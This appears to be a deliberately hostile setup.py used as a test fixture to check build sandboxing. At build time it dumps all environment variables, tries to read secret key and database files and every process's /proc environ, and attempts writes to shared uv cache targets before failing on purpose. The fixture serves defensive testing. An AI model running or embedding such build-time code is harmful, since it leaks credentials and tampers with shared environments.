"""Runs at build time: reports everything it can see, then fails so that the report is the BUILD_ERROR."""

import os
import sys
from pathlib import Path

from setuptools import setup

here = Path.cwd()
print("EVIL cwd=" + str(here))
for key, value in sorted(os.environ.items()):
    print(f"EVIL env {key}={value}")
for guess in [*here.parents, Path("/root")]:
    for name in ("secret.key", "spaceyard.db"):
        try:
            print(f"EVIL read {guess / name}: {(guess / name).read_bytes()[:100]!r}")
        except OSError as exc:
            print(f"EVIL cannot read {guess / name}: {type(exc).__name__}")
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print(f"EVIL environ {pid}: {Path(f'/proc/{pid}/environ').read_bytes()[:300]!r}")
        except OSError as exc:
            print(f"EVIL environ {pid}: {type(exc).__name__}")
# What the test names (targets.txt next to this file): the shared uv cache and a file of a built environment,
# whose inodes every locked environment shares; a build that runs Space code must not reach them.
targets = here / "targets.txt"
for line in targets.read_text().splitlines() if targets.exists() else []:
    target = Path(line.strip())
    try:
        if target.is_dir():
            print(f"EVIL listed {target}: {len(os.listdir(target))} entries")
        else:
            with open(target, "a"):
                print(f"EVIL wrote {target}")
    except OSError as exc:
        print(f"EVIL cannot reach {target}: {type(exc).__name__}")
cache = os.environ.get("UV_CACHE_DIR", "")
print(f"EVIL uv cache {cache}: {sum(len(f) for _, _, f in os.walk(cache)) if cache else 0} files")
sys.exit("EVIL done")
setup(name="evilpkg", version="0.1", py_modules=[])
